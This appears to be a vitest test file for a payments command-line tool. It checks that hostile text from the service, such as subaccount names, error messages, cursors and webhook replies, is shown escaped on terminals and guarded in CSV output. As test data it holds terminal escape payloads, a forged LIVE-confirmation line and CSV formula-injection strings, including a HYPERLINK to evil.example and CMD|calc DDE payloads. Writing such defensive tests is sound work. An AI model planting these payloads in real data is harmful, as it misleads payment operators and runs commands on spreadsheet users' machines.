/**
 * Text from outside never drives the terminal: a subaccount name, a treasury label, a server's
 * error message and warning, a cursor hint, a webhook receiver's answer and the names book are
 * shown escaped on every human output path (tables, sentences, the LIVE confirmation, errors),
 * while JSON keeps the data exact and CSV cells are guarded against spreadsheet formulas.
 */
import {createServer, type IncomingMessage, type Server, type ServerResponse} from 'node:http'
import type {AddressInfo} from 'node:net'
import {parse as parseCsv} from 'csv-parse/sync'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {run, runAs, startEmulator, tempDir, type Emulator} from '../support/index.js'

const ESC = '\u001b'
const BEL = '\u0007'
/** Retitles the window and clears the screen. */
const TITLE = `Ops ${ESC}]0;pwned${BEL}${ESC}[2J`
/** Bidi override: shown reversed. */
const BIDI = 'Rent \u202edraobyek'
/** C1 CSI (8-bit): red from here on, on a terminal that reads C1. */
const C1 = 'Fees \u009b31m'
/** The forged `to:` line of a LIVE confirmation: back to the line's start, clear it, write another, hide the rest. */
const forged = (otherId: string) => `Payroll\r${ESC}[2K  to:      Payroll (${otherId})${ESC}[8m`

/** Control, C1, bidi and invisible characters that must never reach a human's terminal raw. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/

/** Text a terminal gets: nothing raw but line breaks (and, with colour, only plain SGR colour codes). */
function expectInert(text: string): void {
  // eslint-disable-next-line no-control-regex -- our own colour codes are the only escapes allowed
  const withoutColour = text.replace(/\u001b\[[0-9;]*m/g, '')
  expect(withoutColour, JSON.stringify(text)).not.toMatch(RAW)
  // No colour code can hide text (8) or come from a value: the hostile ones were escaped whole.
  expect(text).not.toContain(`${ESC}[8m`)
  expect(text).not.toContain(`${ESC}[2K`)
  expect(text).not.toContain(`${ESC}[2J`)
  expect(text).not.toContain(`${ESC}]`)
}

let emu: Emulator
const dir = tempDir()

beforeAll(async () => {
  emu = await startEmulator()
})
afterAll(() => dir.cleanup())

async function create(name: string, key: 'test' | 'live' = 'test'): Promise<string> {
  const r = await runAs(emu, key, ['subaccounts', 'create', '--name', name, '-o', 'json', ...(key === 'live' ? ['--yes'] : [])], {configDir: dir.path})
  expect(r.code, r.stderr).toBe(0)
  expect(r.json().name).toBe(name)
  return r.json().id
}

describe('subaccount names from the service', () => {
  it('subaccounts get shows a hostile name escaped in a table, exact in JSON and NDJSON', async () => {
    const names = [TITLE, BIDI, C1]
    for (const name of names) {
      const id = await create(name)
      const table = await runAs(emu, 'test', ['subaccounts', 'get', id, '-o', 'table'], {configDir: dir.path})
      expect(table.code, table.stderr).toBe(0)
      expectInert(table.stdout)
      expectInert(table.stderr)
      const json = await runAs(emu, 'test', ['subaccounts', 'get', id, '-o', 'json'], {configDir: dir.path})
      expect(json.json().name).toBe(name)
      // JSON's own escapes: the text a terminal would get from `-o json` is inert too.
      expectInert(json.stdout)
      const ndjson = await runAs(emu, 'test', ['subaccounts', 'get', id, '-o', 'ndjson'], {configDir: dir.path})
      expect(JSON.parse(ndjson.stdout).name).toBe(name)
      expectInert(ndjson.stdout)
    }
    const id = await create(TITLE)
    const shown = (await runAs(emu, 'test', ['subaccounts', 'get', id, '-o', 'table'], {configDir: dir.path})).stdout
    expect(shown).toMatch(/^NAME\s+Ops \\x1b\]0;pwned\\x07\\x1b\[2J$/m)
    const bidi = (await runAs(emu, 'test', ['subaccounts', 'get', await create(BIDI), '-o', 'table', '--columns', 'name'], {configDir: dir.path})).stdout
    expect(bidi.trim()).toBe('NAME  Rent \\u202edraobyek')
    const c1 = (await runAs(emu, 'test', ['subaccounts', 'get', await create(C1), '-o', 'table', '--columns', 'name'], {configDir: dir.path})).stdout
    expect(c1.trim()).toBe('NAME  Fees \\x9b31m')
  })

  it('lists (the approval queue, treasury accounts) show names and labels escaped, with colour on', async () => {
    const from = await create(TITLE)
    const to = await create(forged(from))
    const pending = await runAs(emu, 'test', ['moves', 'create', '--from', from, '--to', to, '--amount-minor', '100', '--no-auto-approve', '-o', 'json'], {configDir: dir.path})
    expect(pending.code, pending.stderr).toBe(0)
    const queue = await runAs(emu, 'test', ['approvals', '-o', 'table', '--wide'], {configDir: dir.path, tty: {stdout: true}})
    expect(queue.code, queue.stderr).toBe(0)
    expect(queue.stdout).toContain(pending.json().id)
    expect(queue.stdout).toContain('Ops \\x1b]0;pwned\\x07\\x1b[2J')
    expect(queue.stdout).toContain('Payroll\\x0d\\x1b[2K  to:')
    expectInert(queue.stdout)
    expectInert(queue.stderr)
    // The same queue as JSON: the names exact.
    const json = await runAs(emu, 'test', ['approvals', '-o', 'json'], {configDir: dir.path})
    const item = (json.json() as Array<{id: string; from_name: string; to_name: string}>).find((i) => i.id === pending.json().id)!
    expect([item.from_name, item.to_name]).toEqual([TITLE, forged(from)])

    const accounts = (await runAs(emu, 'test', ['treasury', 'accounts', 'list', '-o', 'json'])).json() as Array<{id: string}>
    const label = await runAs(emu, 'test', ['treasury', 'accounts', 'update-label', accounts[0].id, '--label', `Main${BIDI}${C1}`, '-o', 'json'], {configDir: dir.path})
    expect(label.code, label.stderr).toBe(0)
    const list = await runAs(emu, 'test', ['treasury', 'accounts', 'list', '-o', 'table', '--wide'], {configDir: dir.path, tty: {stdout: true}})
    expect(list.code, list.stderr).toBe(0)
    expect(list.stdout).toContain('MainRent \\u202edraobyekFees \\x9b31m')
    expectInert(list.stdout)
  })

  it('a LIVE confirmation shows the real destination: a name cannot forge the to: line', async () => {
    const source = await create('Source', 'live')
    const real = await create('Payroll', 'live')
    const hostile = await create(forged(real), 'live')
    const r = await runAs(emu, 'live', ['moves', 'create', '--from', source, '--to', hostile, '--amount', '1.00', '-o', 'table'], {configDir: dir.path, tty: true, answers: ['1.00']})
    expect(r.code, r.stderr).toBe(0)
    expect(r.asked).toEqual(['Type 1.00 to confirm this LIVE movement:'])
    expectInert(r.stderr)
    expectInert(r.stdout)
    const toLines = r.stderr.split('\n').filter((l) => /^\s*to:/.test(l))
    // One to: line, naming the destination that is paid (its id whole), the name's escapes visible.
    expect(toLines).toEqual([`  to:      Payroll\\x0d\\x1b[2K  to:      Payroll (${real})\\x1b[8m (${hostile})`])
    // What the operator confirmed is what moved: the hostile subaccount received it.
    const got = await runAs(emu, 'live', ['subaccounts', 'get', hostile, '-o', 'json'], {configDir: dir.path})
    expect(got.json().total_incoming_in_minor_units).toBe(100)
  })

  it('the names book keeps a name exactly and shows it escaped, under another profile too', async () => {
    const cfg = tempDir()
    try {
      await run(['profiles', 'add', 'first', '--base-url', emu.baseUrl, '--key-stdin', '--use'], {configDir: cfg.path, input: emu.keys.test})
      await run(['profiles', 'add', 'second', '--base-url', emu.baseUrl, '--key-stdin'], {configDir: cfg.path, input: emu.keys.test})
      const from = await create('Books')
      const to = await create(`${TITLE}\n  to:      elsewhere`)
      // The first profile reads the subaccount: its name goes into the book.
      expect((await run(['-p', 'first', 'subaccounts', 'get', to, '-o', 'json'], {configDir: cfg.path})).code).toBe(0)
      // The book (in controls.sqlite) keeps the name exactly as the service gave it.
      const {readRecentNames} = await import('../../src/config/names.js')
      expect(readRecentNames(cfg.path).find((e) => e.id === to)?.name).toBe(`${TITLE}\n  to:      elsewhere`)
      // The second profile shows it from the book (the move's table names the destination; the sentence too).
      const r = await run(['-p', 'second', 'moves', 'create', '--from', from, '--to', to, '--amount-minor', '250', '-o', 'table'], {configDir: cfg.path, tty: {stdout: true}})
      expect(r.code, r.stderr).toBe(0)
      expect(r.stdout).toContain(`Ops \\x1b]0;pwned\\x07\\x1b[2J\\x0a  to:      elsewhere (${to.slice(0, 8)}…)`)
      expectInert(r.stdout)
      expectInert(r.stderr)
      expect(r.stderr.split('\n').filter((l) => /^\s*to:/.test(l))).toEqual([])
    } finally {
      cfg.cleanup()
    }
  })

  it('CSV guards cells that a spreadsheet would run as a formula, and keeps negative amounts numbers', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    const a = await create(formula)
    const b = await create('@SUM(1+1)*cmd|calc!A0')
    const c = await create('-2+3')
    const d = await create("+CMD|' /C calc'!A0")
    const moved = await runAs(emu, 'test', ['moves', 'create', '--from', a, '--to', b, '--amount', '12.34', '-o', 'json'], {configDir: dir.path})
    expect(moved.code, moved.stderr).toBe(0)
    const cells = async (id: string) => {
      const r = await runAs(emu, 'test', ['subaccounts', 'get', id, '-o', 'csv', '--columns', 'name,balance'], {configDir: dir.path})
      expect(r.code, r.stderr).toBe(0)
      return parseCsv(r.stdout) as string[][]
    }
    expect(await cells(a)).toEqual([['name', 'balance'], [`'${formula}`, '-12.34 USD']])
    expect(await cells(b)).toEqual([['name', 'balance'], ["'@SUM(1+1)*cmd|calc!A0", '12.34 USD']])
    expect((await cells(c))[1][0]).toBe("'-2+3")
    expect((await cells(d))[1][0]).toBe("'+CMD|' /C calc'!A0")
    // JSON keeps the data exact.
    expect((await runAs(emu, 'test', ['subaccounts', 'get', a, '-o', 'json'])).json().name).toBe(formula)
  })
})

/** A server that answers every request with what the test sets. */
let hostile: Server
let hostileUrl: string
let answer: (req: IncomingMessage, res: ServerResponse) => void = (_req, res) => res.end()
beforeAll(async () => {
  hostile = createServer((req, res) => {
    req.resume()
    req.on('end', () => answer(req, res))
  })
  await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r))
  hostileUrl = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`
})
afterAll(async () => {
  hostile.closeAllConnections()
  await new Promise((r) => hostile.close(r))
})

const MESSAGE = `${ESC}]0;pwned${BEL}${ESC}[2J${ESC}[1A\rError: nothing happened, all is fine\u202e`
const json = (status: number, body: unknown) => (_req: IncomingMessage, res: ServerResponse) => {
  res.writeHead(status, {'content-type': 'application/json'})
  res.end(JSON.stringify(body))
}
const onHostile = (args: string[]) => run([...args, '--max-retries', '0'], {env: {PAYOPS_BASE_URL: hostileUrl, PAYOPS_API_KEY: 'test_0123456789abcdef0123456789abcdef'}})

describe('a hostile server', () => {
  it("an error's message is one escaped line; the JSON error keeps it exact", async () => {
    answer = json(400, {error_code: `BAD${ESC}[31m`, message: MESSAGE})
    const table = await onHostile(['subaccounts', 'get', 'sub_1', '-o', 'table'])
    expect(table.code).toBe(8)
    expect(table.stderr.trim().split('\n')).toEqual(['Error: 400 BAD\\x1b[31m: \\x1b]0;pwned\\x07\\x1b[2J\\x1b[1A Error: nothing happened, all is fine\\u202e'])
    expectInert(table.stderr)
    const asJson = await onHostile(['subaccounts', 'get', 'sub_1', '-o', 'json'])
    expect(asJson.code).toBe(8)
    const [line, obj] = asJson.stderr.trim().split('\n')
    expectInert(line)
    expectInert(obj)
    // The API layer reads a message as one line (a run of whitespace, the CR, becomes a space); the rest is exact.
    expect(JSON.parse(obj).error).toMatchObject({message: MESSAGE.replace('\r', ' '), error_code: `BAD${ESC}[31m`})

    // --debug traces the answer's body too: escaped alike.
    const traced = await onHostile(['subaccounts', 'get', 'sub_1', '-o', 'table', '--debug'])
    expect(traced.code).toBe(8)
    // (JSON.stringify leaves U+202E raw in the body the server sent; the trace shows it escaped.)
    expect(traced.stderr).toMatch(/^\[debug\] ← 400 .*body .*all is fine\\u202e"\}$/m)
    expectInert(traced.stderr)
  })

  it('a warning and a cursor hint are escaped on stderr', async () => {
    answer = json(200, {data: {id: 'sub_1', name: 'ok', currency_code: 'USD', total_incoming_in_minor_units: 0, total_outgoing_in_minor_units: 0}, warning: MESSAGE})
    const got = await onHostile(['subaccounts', 'get', 'sub_1', '-o', 'table'])
    expect(got.code, got.stderr).toBe(0)
    expect(got.stderr).toContain('Warning: \\x1b]0;pwned')
    expect(got.stderr.trim().split('\n')).toHaveLength(1)
    expectInert(got.stderr)
    const cursor = `c1${ESC}[2J\r\n--cursor c0`
    answer = json(200, {data: [{id: 'act_1', effective_at: '2026-01-01T00:00:00Z', direction: 'credit', amount_in_minor_units: 5, currency_code: 'USD', source: `bai2${ESC}[8m`}], has_more: true, next_cursor: cursor})
    const list = await onHostile(['subaccounts', 'activity', 'sub_1', '-o', 'table'])
    expect(list.code, list.stderr).toBe(0)
    expect(list.stderr).toContain('More items: --cursor c1\\x1b[2J\\x0d\\x0a--cursor c0 (or --all)')
    expect(list.stdout).toContain('bai2\\x1b[8m')
    expectInert(list.stdout)
    expectInert(list.stderr)
    const machine = await onHostile(['subaccounts', 'activity', 'sub_1', '-o', 'ndjson'])
    expect(JSON.parse(machine.stdout).source).toBe(`bai2${ESC}[8m`)
    expect(JSON.parse(machine.stderr.trim()).page.next_cursor).toBe(cursor)
  })

  it("webhooks trigger shows the receiver's answer escaped; JSON keeps it exact", async () => {
    answer = (_req, res) => {
      res.writeHead(500, {'content-type': 'text/plain'})
      res.end(`nope ${ESC}]0;pwned${BEL}${ESC}[2J\u202e`)
    }
    const r = await run(['webhooks', 'trigger', 'payin.settled', '--url', hostileUrl, '--secret', 'whsec_escapes_test_secret', '-o', 'table'])
    expect(r.code).not.toBe(0)
    expect(r.stderr).toContain('nope \\x1b]0;pwned\\x07\\x1b[2J\\u202e')
    expectInert(r.stderr)
    expectInert(r.stdout)
    const j = await run(['webhooks', 'trigger', 'payin.settled', '--url', hostileUrl, '--secret', 'whsec_escapes_test_secret', '-o', 'json'])
    expect(j.json().response).toContain(`${ESC}]0;pwned${BEL}`)
    expectInert(j.stdout)
  })
})
